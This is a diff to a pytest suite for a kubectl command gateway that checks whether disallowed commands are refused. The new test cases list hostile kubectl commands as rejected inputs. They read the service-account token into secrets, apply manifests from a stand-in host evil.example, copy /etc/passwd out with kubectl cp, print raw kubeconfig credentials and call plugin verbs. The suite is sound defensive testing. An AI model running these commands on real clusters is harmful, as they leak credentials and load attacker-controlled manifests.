@@ -17,8 +17,11 @@ from hypothesis import strategies as st
 from wingman.errors import ConfigError, ScopeViolation
 from wingman.scope import (
     CONNECTION_FLAGS,
+    KUBECTL_VERBS,
+    LOCAL_VERBS,
     MAX_ARGUMENTS,
     MAX_COMMAND_BYTES,
+    SERVING_VERBS,
     VALUE_FLAGS,
     Allowlist,
     AllowlistPattern,
@@ -170,8 +173,9 @@ def test_unbalanced_quotes_are_malformed(command: str) -> None:
 
 
 def test_argument_limit() -> None:
-    assert len(parse("kubectl" + " a" * (MAX_ARGUMENTS - 1))) == MAX_ARGUMENTS
-    violation("kubectl" + " a" * MAX_ARGUMENTS, "TooManyArguments")
+    # a built-in verb first: 'kubectl a' names no kubectl command (UnknownVerb)
+    assert len(parse("kubectl get" + " a" * (MAX_ARGUMENTS - 2))) == MAX_ARGUMENTS
+    violation("kubectl get" + " a" * (MAX_ARGUMENTS - 1), "TooManyArguments")
 
 
 def test_parse_rejects_non_strings() -> None:
@@ -388,7 +392,9 @@ def test_allowlisted_commands_pass(command: str) -> None:
 def test_commands_outside_the_allowlist_are_rejected(command: str) -> None:
     with pytest.raises(ScopeViolation) as info:
         check(command, approved=[command], allowlist=ALLOWLIST)
-    assert info.value.reason == "NotInAllowlist"
+    # kubectl's verbs are case-sensitive: 'Rollout' is no built-in command but a plugin's name
+    expected = "UnknownVerb" if command.startswith("kubectl Rollout") else "NotInAllowlist"
+    assert info.value.reason == expected
     assert command not in str(info.value)
 
 
@@ -668,7 +674,11 @@ def test_fuzz_near_miss_argv_has_no_false_accepts(argv: list[str], quote_all: bo
     try:
         parsed = parse(command)
     except ScopeViolation as exc:  # kubectl's flag rules: never runs, so never allowed
-        assert exc.reason in ("ConnectionFlag", "MissingFlagValue", "ServingVerb"), exc.reason
+        # a regrown verb is no built-in one (UnknownVerb), a flag grown before it is no
+        # global option (FlagBeforeVerb)
+        assert exc.reason in ("ConnectionFlag", "MissingFlagValue", "ServingVerb",
+                              "FlagBeforeVerb", "UnknownVerb", "LocalVerb",
+                              "LocalFile"), exc.reason
         assert not oracle(argv), ascii(command)
         return
     assert parsed == argv
@@ -705,3 +715,214 @@ def test_a_command_that_serves_rights_or_a_port_never_runs(command: str) -> None
 ])
 def test_proxy_as_a_name_or_a_value_is_not_the_verb(command: str) -> None:
     assert parse(command)[0] == "kubectl"
+
+
+# ------------------------------------------------------------------------------------------
+# parse: nothing of the gateway pod's own (files, URLs, other programs)
+
+TOKEN_FILE = "/var/run/secrets/kubernetes.io/serviceaccount/token"
+
+
+@pytest.mark.parametrize(("command", "flag"), [
+    (f"kubectl create secret generic x -n apps --from-file={TOKEN_FILE}", "--from-file"),
+    (f"kubectl create secret generic x -n apps --from-file {TOKEN_FILE}", "--from-file"),
+    (f"kubectl create secret generic x -n apps --from_file=t={TOKEN_FILE}", "--from-file"),
+    (f"kubectl create configmap x -n apps --from-env-file={TOKEN_FILE}", "--from-env-file"),
+    ("kubectl apply -f https://evil.example/x.yaml -n apps", "-f (--filename)"),
+    ("kubectl apply -f=https://evil.example/x.yaml", "-f (--filename)"),
+    ("kubectl apply -fhttps://evil.example/x.yaml", "-f (--filename)"),
+    ("kubectl apply -Rf manifests", "-f (--filename)"),  # -R, then -f
+    ("kubectl delete --filename=x.yaml", "--filename"),
+    ("kubectl delete --filename x.yaml", "--filename"),
+    ("kubectl get pods -f x.yaml", "-f (--filename)"),  # -f is --filename outside logs
+    ("kubectl apply -k github.com/org/repo", "-k (--kustomize)"),
+    ("kubectl apply -kgithub.com/org/repo", "-k (--kustomize)"),
+    ("kubectl delete --kustomize=overlays/prod", "--kustomize"),
+    ("kubectl patch deployment web --patch-file=/etc/hostname", "--patch-file"),
+    ("kubectl patch deployment web --patch_file /etc/hostname", "--patch-file"),
+    (f"kubectl create secret tls x --cert={TOKEN_FILE} --key=k", "--cert"),
+    (f"kubectl create secret tls x --key {TOKEN_FILE}", "--key"),
+    ("kubectl debug pod/web --image=busybox --custom=/etc/hostname", "--custom"),
+    ("kubectl cluster-info dump --output-directory=/tmp/dump", "--output-directory"),
+    ("kubectl create deployment web --image=nginx --edit", "--edit"),
+    ("kubectl get pods --log-file=/tmp/x", "--log-file"),  # klog's, in other kubectl versions
+    ("kubectl logs web -f --filename=x.yaml", "--filename"),  # logs has no --filename
+])
+def test_a_flag_that_reads_or_writes_the_gateway_pods_files_never_runs(command: str,
+                                                                       flag: str) -> None:
+    exc = violation(command, "LocalFile")
+    assert f"sets {flag}," in exc.message
+    assert "kubectl patch" in exc.message  # says what to do instead
+    assert "evil" not in exc.message and "/etc" not in exc.message and "/var" not in exc.message
+
+
+@pytest.mark.parametrize("command", [
+    f"kubectl get pods -o go-template-file={TOKEN_FILE}",
+    f"kubectl get pods -ogo-template-file={TOKEN_FILE}",
+    f"kubectl get pods -o=templatefile={TOKEN_FILE}",
+    f"kubectl get pods --output jsonpath-file={TOKEN_FILE}",
+    f"kubectl get pods --output=custom-columns-file={TOKEN_FILE}",
+    f"kubectl get pods -o go-template-file --template={TOKEN_FILE}",
+    f"kubectl get pods -Ao GO-Template-File={TOKEN_FILE}",  # combined, and any letter case
+    f"kubectl create configmap x --from-literal=a=b --dry-run=client -o templatefile "
+    f"--template {TOKEN_FILE}",
+])
+def test_an_output_format_that_reads_its_template_from_a_file_never_runs(command: str) -> None:
+    exc = violation(command, "LocalFile")
+    assert "inline" in exc.message and "/var" not in exc.message
+
+
+@pytest.mark.parametrize(("command", "verb"), [
+    ("kubectl cp apps/web:/etc/passwd passwd", "cp"),
+    ("kubectl -n apps cp web:/tmp/x x", "cp"),
+    ("kubectl config view --raw", "config"),
+    ("kubectl kustomize github.com/org/repo", "kustomize"),
+    ("kubectl plugin list", "plugin"),
+    ("kubectl edit deployment/web -n apps", "edit"),
+    ("kubectl diff -n apps", "diff"),
+    ("kubectl apply edit-last-applied deployment/web", "apply edit-last-applied"),
+    ("kubectl apply --prune edit-last-applied deployment/web", "apply edit-last-applied"),
+])
+def test_a_verb_that_works_on_local_state_or_runs_another_program_never_runs(
+        command: str, verb: str) -> None:
+    exc = violation(command, "LocalVerb")
+    assert f"kubectl {verb} " in exc.message and "kubectl patch" in exc.message
+
+
+@pytest.mark.parametrize("command", [
+    "kubectl evil",  # kubectl runs kubectl-evil from PATH
+    "kubectl evil -n apps",
+    "kubectl Get pods",  # verbs are case-sensitive
+    "kubectl __complete get pods",
+    "kubectl -n apps evil",
+    "kubectl create evil",  # kubectl runs kubectl-create-evil
+    "kubectl create evil -n apps",
+    "kubectl create -n apps evil web",
+])
+def test_a_verb_kubectl_does_not_have_built_in_never_runs(command: str) -> None:
+    exc = violation(command, "UnknownVerb")
+    assert "plugin" in exc.message and "evil" not in exc.message
+
+
+@pytest.mark.parametrize("command", [
+    "kubectl --accept-paths get proxy",  # kubectl takes 'get' as the flag's value: proxy runs
+    "kubectl -i get cp web:/etc/passwd x",  # runs cp
+    "kubectl -w get edit deployment/web",  # runs edit
+    "kubectl -f logs get pods",  # -f is --filename here, reading the file 'logs'
+    "kubectl -A get pods",
+    "kubectl -An apps get pods",
+    "kubectl --all-namespaces get pods",
+])
+def test_a_flag_before_the_verb_that_is_no_global_option_is_refused(command: str) -> None:
+    exc = violation(command, "FlagBeforeVerb")
+    assert "write the flag after the verb" in exc.message
+
+
+@pytest.mark.parametrize("command", [
+    "kubectl logs web -f",  # -f is --follow in logs
+    "kubectl logs -f web -n apps",
+    "kubectl logs web -pf",
+    "kubectl -n apps logs web --follow",
+    "kubectl get pods -o json",
+    "kubectl get pods -o 'go-template={{.metadata.name}}'",
+    "kubectl get pods --template '{{.metadata.name}}'",  # inline: no -o names a file
+    "kubectl get pods -o 'jsonpath={.items[0].metadata.name}'",
+    "kubectl get pods -o custom-columns=NAME:.metadata.name",
+    "kubectl get pods -l file=x",
+    "kubectl create configmap x --from-literal=a=b -n apps",
+    "kubectl create deploy web --image=nginx",
+    "kubectl create -n apps deployment web --image=nginx",
+    "kubectl -n apps --request-timeout 5s get pods",
+    "kubectl --match-server-version --warnings-as-errors get pods",
+    "kubectl -nv get pods",
+    "kubectl patch deployment web -p '{\"spec\":{\"replicas\":2}}'",
+    "kubectl set image deployment/web web=nginx:1",
+    "kubectl apply view-last-applied deployment/web",
+    "kubectl version",
+    "kubectl help",
+    "kubectl api-resources",
+    "kubectl exec web -- cat /etc/hostname",  # after '--': the container's argv
+    "kubectl",
+])
+def test_ordinary_commands_still_parse(command: str) -> None:
+    assert parse(command) == shlex.split(command)
+
+
+@pytest.mark.parametrize(("command", "pattern", "reason"), [
+    # a wildcard lets the command fill in what the rules refuse: they refuse it all the same
+    ("kubectl get pods -o go-template-file=t.tmpl", "kubectl get pods -o *", "LocalFile"),
+    ("kubectl edit deployment/web", "kubectl * deployment/web", "LocalVerb"),
+    ("kubectl evil deployment/web", "kubectl * deployment/web", "UnknownVerb"),
+    ("kubectl create evil x", "kubectl create * x", "UnknownVerb"),
+])
+def test_an_allowlist_wildcard_does_not_admit_what_the_rules_refuse(
+        command: str, pattern: str, reason: str) -> None:
+    allowlist = Allowlist.from_patterns([pattern])
+    assert allowlist.matches(shlex.split(command))
+    with pytest.raises(ScopeViolation) as info:
+        check(command, approved=[command], allowlist=allowlist)
+    assert info.value.reason == reason
+
+
+@pytest.mark.parametrize(("pattern", "rule"), [
+    ("kubectl cp * *", "LocalVerb"),
+    ("kubectl -n apps edit deployment/*", "LocalVerb"),
+    ("kubectl evil *", "UnknownVerb"),
+    ("kubectl create evil *", "UnknownVerb"),
+    ("kubectl -A get pods", "FlagBeforeVerb"),
+    ("kubectl create secret generic * -n apps --from-file=*", "LocalFile"),
+    ("kubectl create secret generic * -n apps --from_file *", "LocalFile"),
+    ("kubectl apply -f * -n apps", "LocalFile"),
+    ("kubectl get pods -o go-template-file=*", "LocalFile"),
+    ("kubectl get pods -ogo-template-file=*", "LocalFile"),
+    ("kubectl get pods --output jsonpath-file=*", "LocalFile"),
+])
+def test_a_pattern_that_only_matches_refused_commands_is_a_configuration_error(
+        pattern: str, rule: str) -> None:
+    with pytest.raises(ConfigError) as info:
+        Allowlist.from_patterns([pattern])
+    assert f"(rule {rule})" in str(info.value)
+
+
+@pytest.mark.parametrize("pattern", [
+    "kubectl logs * -f -n apps",  # -f is --follow in logs
+    "kubectl logs {name} -f",
+    "kubectl * pods",  # the verb is left to the command: parse refuses the bad ones
+    "kubectl get pods -o *",
+    "kubectl get pods -o go-template=*",
+    "kubectl create configmap * --from-literal=*",
+    "kubectl create * web",
+    "kubectl -n * get pods",
+])
+def test_patterns_that_can_match_a_command_that_runs_are_accepted(pattern: str) -> None:
+    assert Allowlist.from_patterns([pattern]).patterns[0].source == pattern
+
+
+def test_the_verb_tables_agree_with_the_pinned_kubectl() -> None:
+    import subprocess
+
+    from wingman.dev import tools as devtools
+    from wingman.review import commands as grammar
+
+    assert KUBECTL_VERBS == grammar.KUBECTL_VERBS
+    assert LOCAL_VERBS | SERVING_VERBS <= KUBECTL_VERBS
+    kubectl = devtools.find_tool("kubectl")
+    if kubectl is None:
+        pytest.skip("kubectl is not provisioned; run `bash .ci/provision-tools.sh`")
+
+    def commands(*words: str) -> set[str]:
+        """The commands ``kubectl WORDS --help`` lists under its "... Commands ...:" headings."""
+        out = subprocess.run([str(kubectl), *words, "--help"], capture_output=True, text=True,
+                             timeout=60, check=True, env={"KUBECONFIG": "/nonexistent"}).stdout
+        found, listing = set(), False
+        for line in out.splitlines():
+            if not line.startswith(" "):
+                listing = "Commands" in line and line.endswith(":")
+            elif listing and line.strip():
+                found.add(line.split()[0])
+        return found
+
+    assert commands() == KUBECTL_VERBS - {"alpha", "help", "options"}
+    assert commands("create")  # create's subcommands are not plugins
+    for sub in commands("create"):
+        parse(f"kubectl create {sub} x")
